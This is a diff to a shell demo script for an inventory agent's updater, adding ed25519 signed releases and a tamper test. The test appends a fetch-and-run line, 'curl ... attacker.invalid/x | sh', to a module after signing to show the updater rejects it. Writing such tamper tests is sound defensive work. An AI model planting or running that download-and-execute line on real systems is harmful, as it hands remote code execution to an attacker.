@@ -2,7 +2,9 @@
 # The main job, end to end on this machine: build, install into a scratch
 # installation folder, start a WebDAV spool server and an update server on
 # 127.0.0.1, run the collection script and the agent, show what the server
-# received, then publish a new module version and run the updater against it.
+# received, then publish a new module version and run the updater against it;
+# last, turn signed updates on, install a signed release and show a tampered
+# one refused.
 # Stops its servers when it ends; can be run again.
 set -euo pipefail
 top=$(cd "$(dirname "$0")/.." && pwd)
@@ -137,5 +139,47 @@ echo "new file:"; ls -l "$inst/docs"
 echo "start command:"; cat "$inst/log/restarted.txt"
 echo "installed macInventory.sh now ends with:"; tail -n 1 "$inst/macInventory.sh"
 echo "log uploaded to the update server:"; ls -l "$demo/update/received"
+
+say "Signed updates: a key pair, update.pub installed, a signed release"
+keys=$demo/keys
+mkdir -p "$keys"
+openssl genpkey -algorithm ed25519 -out "$keys/release.pem"
+chmod 600 "$keys/release.pem"
+openssl pkey -in "$keys/release.pem" -pubout -out "$inst/update.pub"
+sed -i 's|<Log>/update/log</Log>|&\n    <Manifest>/update/manifest.txt</Manifest>|' "$inst/update.ini"
+expires=$(date -u -d '+30 days' '+%Y-%m-%dT%H:%M:%SZ')
+publish_signed() { # version
+    "$inst/kxpublish" --key "$keys/release.pem" --version "$1" --expires "$expires" \
+        --manifest "$demo/update/update/manifest.txt" -d NOTES.txt=docs \
+        "$modules" "$demo/update/update/list.txt" "$demo/update/update/list.md5"
+}
+updater_run() { # shows only this run's log lines
+    local seen
+    seen=$(cat "$inst"/updatelog/kxupd_*.log | wc -l)
+    (cd "$inst" && ./KX_Updater run)
+    echo
+    cat "$inst"/updatelog/kxupd_*.log | tail -n +"$((seen + 1))"
+}
+printf '# signed release 1\n' >> "$modules/macInventory.sh"
+publish_signed 1
+echo "manifest.txt:"; cat "$demo/update/update/manifest.txt"
+updater_run
+echo; echo "accepted so far:"; cat "$inst/update.state"
+
+say "A tampered release is refused"
+printf '# signed release 2\n' >> "$modules/macInventory.sh"
+publish_signed 2
+before=$(sha256sum < "$inst/macInventory.sh")
+# Someone between the server and the machine appends a line after signing.
+printf 'curl -s http://attacker.invalid/x | sh\n' >> "$modules/macInventory.sh"
+updater_run
+after=$(sha256sum < "$inst/macInventory.sh")
+echo
+if [ "$before" = "$after" ]; then
+    echo "installed macInventory.sh unchanged; it still ends with:"
+else
+    echo "installed macInventory.sh CHANGED (this is a fault):"
+fi
+tail -n 1 "$inst/macInventory.sh"
 
 say "Done; servers stopped. Everything is under $demo"
